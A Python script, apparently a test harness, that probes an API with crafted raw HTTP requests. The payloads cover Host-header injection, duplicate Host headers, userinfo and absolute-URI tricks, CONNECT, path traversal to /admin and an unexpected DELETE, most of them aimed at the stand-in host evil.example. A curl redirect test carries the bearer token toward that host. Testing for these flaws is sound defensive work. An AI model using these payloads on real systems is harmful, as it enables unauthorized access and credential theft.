import os
import subprocess
from urllib.parse import urlsplit

from keys import BEARER, each_with_key
from rows import connect, mark, seconds, talk

# In a box the name of a route; `~` becomes the sign between a user and a host, `#` the key.
BASE = urlsplit(os.environ["API_URL"]).hostname
HEADS = {
    "host": "GET /@ HTTP/1.1\nHost: evil.example",
    "two-hosts": "GET /@ HTTP/1.1\nHost: {}\nHost: evil.example",
    "two-hosts-reverse": "GET /@ HTTP/1.1\nHost: evil.example\nHost: {}",
    "absolute": "GET http://evil.example/@ HTTP/1.1\nHost: {}",
    "absolute-secure": "GET https://evil.example/@ HTTP/1.1\nHost: evil.example",
    "slashes": "GET //evil.example/@ HTTP/1.1\nHost: {}",
    "userinfo": "GET http://{}~evil.example/@ HTTP/1.1\nHost: {}",
    "host-userinfo": "GET /@ HTTP/1.1\nHost: {}~evil.example",
    "no-host": "GET /@ HTTP/1.0",
    "connect": "CONNECT evil.example:443 HTTP/1.1\nHost: evil.example:443\nX-Mark: @",
    "outside-paths": "GET /v1/../admin/@ HTTP/1.1\nHost: {}",
    "outside-paths-encoded": "GET /v1/%2e%2e/admin/@ HTTP/1.1\nHost: {}",
    "other-method": "DELETE /v1/@ HTTP/1.1\nHost: {}",
    "query": "GET /v1/@?key=# HTTP/1.1\nHost: {}",
}


def ask(row):
    if row == "redirect":
        target = f"http:%2f%2fevil.example%2f{mark(row)}"
        subprocess.run(["curl", "-sk", "-m", seconds(5), "--location-trusted", "-H", BEARER.strip(), f"http://{BASE}/to/{target}"], capture_output=True)
        return
    head = HEADS[row].replace("{}", BASE).replace("@", mark(row)).replace("~", "@")
    talk(connect(BASE, 80, 3), head.replace("#", BEARER.split()[-1]).replace("\n", "\r\n") + f"\r\n{BEARER}Connection: close\r\n\r\n", 3)


each_with_key(ask)
